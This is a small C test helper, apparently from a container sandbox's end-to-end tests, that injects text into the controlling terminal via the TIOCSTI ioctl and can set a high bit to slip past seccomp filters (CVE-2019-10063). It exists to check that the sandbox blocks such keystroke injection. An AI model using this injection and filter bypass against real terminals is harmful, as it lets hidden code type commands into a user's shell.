/* SPDX-License-Identifier: MIT */
/*
 * The TIOCSTI typer of tests/e2e/test_trust_tiocsti.sh: what an install
 * script could leave behind in a container.  It pushes TEXT into the input
 * of its controlling terminal, byte by byte, as if it were typed ("\n"
 * in TEXT is a newline, so that any shell can pass it in single quotes),
 * and writes "typed" or the error to RESULT.  With --high the request has bit
 * 32 set: the kernel reads only the low 32 bits, a filter that compares
 * all 64 is bypassed (CVE-2019-10063).  Built static, so that it runs in
 * any image.
 *
 * usage: sti [--high] TEXT RESULT
 */
#include <sys/ioctl.h>

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	unsigned long req = TIOCSTI;
	const char *err = NULL;
	int i = 1, fd;
	FILE *f;

	if (argc > 1 && strcmp(argv[1], "--high") == 0) {
		req |= 1UL << 32;
		i++;
	}
	if (argc != i + 2) {
		fputs("usage: sti [--high] TEXT RESULT\n", stderr);
		return 2;
	}
	fd = open("/dev/tty", O_RDWR | O_CLOEXEC);
	if (fd < 0)
		err = strerror(errno);
	for (const char *p = argv[i]; !err && *p; p++) {
		char c = *p;
		if (c == '\\' && p[1] == 'n') {
			c = '\n';
			p++;
		}
		if (ioctl(fd, req, &c) < 0)
			err = strerror(errno);
	}
	f = fopen(argv[i + 1], "w");
	if (!f)
		return 1;
	fprintf(f, "%s\n", err ? err : "typed");
	return fclose(f) != 0 || err;
}
